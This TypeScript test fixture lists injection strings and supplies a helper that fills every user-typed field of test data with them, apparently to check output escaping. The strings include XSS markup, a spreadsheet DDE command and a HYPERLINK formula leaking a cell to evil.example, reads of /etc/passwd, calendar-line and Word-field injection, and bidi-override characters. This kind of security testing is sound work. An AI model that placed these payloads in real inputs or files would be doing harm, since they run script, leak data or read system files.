// Words an attacker would type wherever a person may type: scripts and markup for a page, formulas for a sheet, markup and commands
// for papers, line ends for calendars and journals, signs that turn writing around or that XML forbids.
export const POISON: readonly string[] = [
  `"><img src=x onerror="globalThis.poisoned=1">`,
  `<svg onload=globalThis.poisoned=2></svg><script>globalThis.poisoned=3</script>`,
  `javascript:globalThis.poisoned=4//`,
  `=HYPERLINK("https://evil.example/?"&A1;"x")`,
  `+cmd|' /C calc'!A0`,
  `\t=1+1`,
  `@SUM(1+1)*cmd`,
  `#panic("typst") #eval("1") $x$ \\u{0} #image("/etc/passwd")`,
  `\r\nATTACH:https://evil.example\r\nEND:VEVENT\r\nBEGIN:VEVENT`,
  `\ninclude /etc/passwd\n2026-01-01 * x\n  a  1\n  b`,
  `]]></w:t><w:instrText>DDEAUTO cmd</w:instrText><!--`,
  `\u202e000.001\u202c \u0001\u0008\ufffe \u2066x\u2069`,
  `{{trich_yeu}} \${globalThis.poisoned=5} {@html 1}`,
  `</script><!-- __proto__ constructor`,
];

/** Those that a page would run, short enough for every field that takes a name. */
export const MARKUP: readonly string[] = [
  `<img src=x onerror="poisoned=1">`,
  `"><svg onload=poisoned=2>`,
  `<script>poisoned=3</script>`,
  `javascript:poisoned=4//`,
];

/** What nobody types: ids, days, hours, digests, and the closed lists of the program, which are small letters with hyphens. */
const NOT_TYPED = /^[a-z0-9-]*$|^\d\d:\d\d$/;

/** Plain data in which every text somebody typed says something evil; keys, ids and lists stay. `next`: the words, in turn. */
export function poisonedWith<Value>(value: Value, next: () => string): Value {
  if (typeof value === 'string') return NOT_TYPED.test(value) ? value : (next().normalize('NFC') as Value);
  if (Array.isArray(value)) return value.map((item) => poisonedWith(item, next)) as Value;
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(Object.entries(value).map(([key, item]) => [key, poisonedWith(item, next)])) as Value;
}

export function inTurn(words: readonly string[] = POISON): () => string {
  let at = 0;
  return () => {
    at += 1;
    return words[at % words.length] ?? '';
  };
}
